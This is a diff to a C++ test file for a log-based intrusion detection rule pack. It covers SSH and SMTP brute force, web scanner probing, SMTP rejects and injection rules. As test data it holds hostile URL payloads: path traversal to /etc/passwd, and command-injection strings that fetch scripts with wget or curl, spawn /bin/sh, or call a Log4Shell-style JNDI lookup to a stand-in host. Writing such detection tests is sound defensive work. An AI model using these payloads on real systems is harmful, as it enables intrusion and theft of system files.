@@ -78,7 +78,7 @@ class RulePack : public ::testing::Test {
 };
 
 TEST_F(RulePack, AllRulesLoad) {
-  EXPECT_EQ(set_->rules().size(), 11u);
+  EXPECT_EQ(set_->rules().size(), 14u);
   for (const auto& r : set_->rules()) {
     EXPECT_FALSE(r.tags.empty()) << r.id;
     EXPECT_FALSE(r.description.empty()) << r.id;
@@ -106,6 +106,40 @@ TEST_F(RulePack, SshBruteForce) {
                     .Set(F::kEventOutcome, "success")
                     .Set(F::kSourceIp, "192.0.2.5");
               }).empty());
+  // tcp_wrappers refusals count as refused logins.
+  TestEvent refused;
+  refused.Set(F::kEventDataset, "sshd")
+      .Set(F::kEventCategory, "network")
+      .Set(F::kEventAction, "reject")
+      .Set(F::kEventOutcome, "failure")
+      .Set(F::kSourceIp, "192.0.2.5");
+  EXPECT_TRUE(Fires("mamori-ssh-brute-force", refused));
+}
+
+TEST_F(RulePack, SshBruteForceSkipsKeyOffersAndAddresslessFailures) {
+  auto sshd = [](std::string_view message, std::string_view ip) {
+    TestEvent e;
+    e.Set(F::kEventDataset, "sshd")
+        .Set(F::kEventCategory, "authentication")
+        .Set(F::kEventAction, "ssh_login")
+        .Set(F::kEventOutcome, "failure")
+        .Set(F::kMessage, message)
+        .Set(F::kSourceIp, ip);
+    return e;
+  };
+  // A valid user's client offering keys the account does not accept: not an attack by itself.
+  EXPECT_FALSE(
+      Fires("mamori-ssh-brute-force",
+            sshd("Failed publickey for git from 192.0.2.1 port 57904 ssh2: RSA x", "192.0.2.1")));
+  // A key offered for a user that does not exist is.
+  EXPECT_TRUE(Fires(
+      "mamori-ssh-brute-force",
+      sshd("Failed publickey for invalid user graysky from 192.0.2.1 port 3 ssh2", "192.0.2.1")));
+  EXPECT_TRUE(Fires("mamori-ssh-brute-force",
+                    sshd("Failed password for git from 192.0.2.1 port 57904 ssh2", "192.0.2.1")));
+  // A failure whose address is unknown cannot be grouped (it would merge unrelated clients).
+  EXPECT_FALSE(Fires("mamori-ssh-brute-force",
+                     sshd("Disconnecting: Too many authentication failures for root", "")));
 }
 
 TEST_F(RulePack, HttpAuthBruteForce) {
@@ -140,9 +174,102 @@ TEST_F(RulePack, WebScannerProbing) {
   auto d = Burst(5, fill);
   ASSERT_EQ(d.size(), 1u);
   EXPECT_EQ(d[0].rule_id, "mamori-web-scanner-probing");
+  // The error log's view of the same 404s (nginx "open() ... failed (2: No such file ...)").
+  TestEvent missing;
+  missing.Set(F::kEventDataset, "nginx.error")
+      .Set(F::kEventCategory, "web")
+      .Set(F::kEventAction, "not_found")
+      .Set(F::kEventOutcome, "failure")
+      .Set(F::kSourceIp, "192.0.2.7")
+      .Set(F::kUrlOriginal, "/cgi-bin/php4");
+  EXPECT_TRUE(Fires("mamori-web-scanner-probing", missing));
+  missing.Set(F::kUrlOriginal, "/favicon.ico");
+  EXPECT_FALSE(Fires("mamori-web-scanner-probing", missing));
+  for (const char* url : {"//mysqladmin/scripts/setup.php", "/roundcube/", "/webmail/"}) {
+    EXPECT_TRUE(Fires("mamori-web-scanner-probing", Web(url, "404"))) << url;
+  }
   // Served pages (200) are not probes; ordinary 404s are not probes.
   EXPECT_FALSE(Fires("mamori-web-scanner-probing", Web("/wp-login.php", "200")));
   EXPECT_FALSE(Fires("mamori-web-scanner-probing", Web("/missing.png", "404")));
+}
+
+TEST_F(RulePack, WebAccessDenied) {
+  auto fill = [](TestEvent& e, int) {
+    e.Set(F::kEventDataset, "apache.error")
+        .Set(F::kEventCategory, "web")
+        .Set(F::kEventAction, "access_denied")
+        .Set(F::kEventOutcome, "failure")
+        .Set(F::kSourceIp, "192.0.2.10");
+  };
+  EXPECT_TRUE(Burst(5, fill).empty());
+  auto d = Burst(6, fill);
+  ASSERT_EQ(d.size(), 1u);
+  EXPECT_EQ(d[0].rule_id, "mamori-web-access-denied");
+  // mod_evasive's blocks (rate_limited) are not access-control refusals.
+  EXPECT_TRUE(Burst(20, [](TestEvent& e, int) {
+                e.Set(F::kEventDataset, "apache.error")
+                    .Set(F::kEventAction, "rate_limited")
+                    .Set(F::kEventOutcome, "failure")
+                    .Set(F::kSourceIp, "192.0.2.10");
+              }).empty());
+}
+
+TEST_F(RulePack, SmtpClientRejected) {
+  auto reject = [](std::string_view message) {
+    TestEvent e;
+    e.Set(F::kEventDataset, "postfix")
+        .Set(F::kEventCategory, "email")
+        .Set(F::kEventAction, "reject")
+        .Set(F::kEventOutcome, "failure")
+        .Set(F::kSourceIp, "192.0.2.11")
+        .Set(F::kMessage, message);
+    return e;
+  };
+  for (const char* m :
+       {"NOQUEUE: reject: RCPT from x[192.0.2.11]: 554 5.7.1 <a@b>: Relay access denied; from=<>",
+        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 550 5.1.1 <a@b>: Recipient address rejected: "
+        "User unknown in local recipient table; from=<>",
+        "NOQUEUE: reject: EHLO from x[192.0.2.11]: 504 5.5.2 <User>: Helo command rejected: need "
+        "fully-qualified hostname; proto=SMTP helo=<User>",
+        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 554 5.7.1 Service unavailable; Client host "
+        "[192.0.2.11] blocked using zen.spamhaus.org"}) {
+    EXPECT_TRUE(Fires("mamori-smtp-client-rejected", reject(m))) << m;
+  }
+  // Rejects that legitimate senders get too.
+  for (const char* m :
+       {"NOQUEUE: reject: RCPT from x[192.0.2.11]: 450 4.2.0 <a@b>: Recipient address rejected: "
+        "Greylisted, see http://postgrey.schweikert.ch/",
+        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 452 4.2.2 <a@b>: Recipient address rejected: "
+        "Mailbox full",
+        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 451 4.3.0 <a@b>: Temporary lookup failure"}) {
+    EXPECT_FALSE(Fires("mamori-smtp-client-rejected", reject(m))) << m;
+  }
+  auto d = Burst(6, [](TestEvent& e, int) {
+    e.Set(F::kEventDataset, "postfix")
+        .Set(F::kEventAction, "protocol_violation")
+        .Set(F::kEventOutcome, "failure")
+        .Set(F::kSourceIp, "192.0.2.12");
+  });
+  ASSERT_EQ(d.size(), 1u);
+  EXPECT_EQ(d[0].rule_id, "mamori-smtp-client-rejected");
+}
+
+TEST_F(RulePack, SmtpAuthBruteForce) {
+  auto fill = [](std::string_view outcome) {
+    return [outcome](TestEvent& e, int) {
+      e.Set(F::kEventDataset, "postfix")
+          .Set(F::kEventCategory, "authentication")
+          .Set(F::kEventAction, "smtp_auth")
+          .Set(F::kEventOutcome, outcome)
+          .Set(F::kSourceIp, "192.0.2.13");
+    };
+  };
+  EXPECT_TRUE(Burst(5, fill("failure")).empty());
+  auto d = Burst(6, fill("failure"));
+  ASSERT_EQ(d.size(), 1u);
+  EXPECT_EQ(d[0].rule_id, "mamori-smtp-auth-brute-force");
+  // Lost contact with the SASL server says nothing about the client.
+  EXPECT_TRUE(Burst(20, fill("unknown")).empty());
 }
 
 TEST_F(RulePack, SqlInjection) {
@@ -153,8 +280,8 @@ TEST_F(RulePack, SqlInjection) {
                           "/q?id=1-sleep(5)", "/q?x=information_schema.tables"}) {
     EXPECT_TRUE(Fires("mamori-sql-injection-url", Web(url))) << url;
   }
-  for (const char* url : {"/reunion/selection.html", "/search?q=union+station",
-                          "/blog/sleeping-cats", "/or/1"}) {
+  for (const char* url :
+       {"/reunion/selection.html", "/search?q=union+station", "/blog/sleeping-cats", "/or/1"}) {
     EXPECT_FALSE(Fires("mamori-sql-injection-url", Web(url))) << url;
   }
 }
@@ -171,9 +298,9 @@ TEST_F(RulePack, Xss) {
 }
 
 TEST_F(RulePack, PathTraversal) {
-  for (const char* url : {"/download?file=../../../../etc/passwd", "/a/..%2f..%2fwin.ini",
-                          "/cgi-bin/%2e%2e/%2e%2e/bin/sh", "/x?f=%252e%252e%252fetc",
-                          "/x?f=..\\..\\boot.ini"}) {
+  for (const char* url :
+       {"/download?file=../../../../etc/passwd", "/a/..%2f..%2fwin.ini",
+        "/cgi-bin/%2e%2e/%2e%2e/bin/sh", "/x?f=%252e%252e%252fetc", "/x?f=..\\..\\boot.ini"}) {
     EXPECT_TRUE(Fires("mamori-path-traversal-url", Web(url))) << url;
   }
   for (const char* url : {"/docs/v1.2/intro", "/a/b/c.html?x=1", "/etc/index.html"}) {
@@ -182,14 +309,14 @@ TEST_F(RulePack, PathTraversal) {
 }
 
 TEST_F(RulePack, CommandInjection) {
-  for (const char* url : {"/ping?host=127.0.0.1;wget+http://x/a.sh", "/x?c=1|id",
-                          "/x?c=%3Bcat%20/etc/passwd", "/x?c=$(curl x)",
-                          "/?x=${jndi:ldap://evil/a}", "/shell?cd+/tmp;busybox+wget",
-                          "/cgi-bin/x?cmd=/bin/sh"}) {
+  for (const char* url :
+       {"/ping?host=127.0.0.1;wget+http://x/a.sh", "/x?c=1|id", "/x?c=%3Bcat%20/etc/passwd",
+        "/x?c=$(curl x)", "/?x=${jndi:ldap://evil/a}", "/shell?cd+/tmp;busybox+wget",
+        "/cgi-bin/x?cmd=/bin/sh"}) {
     EXPECT_TRUE(Fires("mamori-command-injection-url", Web(url))) << url;
   }
-  for (const char* url : {"/identity/login", "/products?id=12&cat=3", "/curling/news",
-                          "/a;jsessionid=1"}) {
+  for (const char* url :
+       {"/identity/login", "/products?id=12&cat=3", "/curling/news", "/a;jsessionid=1"}) {
     EXPECT_FALSE(Fires("mamori-command-injection-url", Web(url))) << url;
   }
 }
